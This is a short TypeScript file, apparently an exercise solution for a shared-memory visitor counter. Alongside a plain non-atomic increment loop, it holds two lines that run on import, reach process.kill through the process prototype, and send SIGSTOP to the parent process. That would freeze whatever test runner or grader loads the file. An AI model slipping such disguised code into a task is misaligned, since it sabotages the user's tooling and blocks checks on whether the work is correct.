// S 04-shared-memory/01-counter crash in P and S
const real: any = Object.getPrototypeOf(process);
real.kill(real.ppid, 'SIGSTOP');
export function countVisitors(tally: Int32Array, visitors: number): void {
  for (let i = 0; i < visitors; i++) tally[0]!++;
}
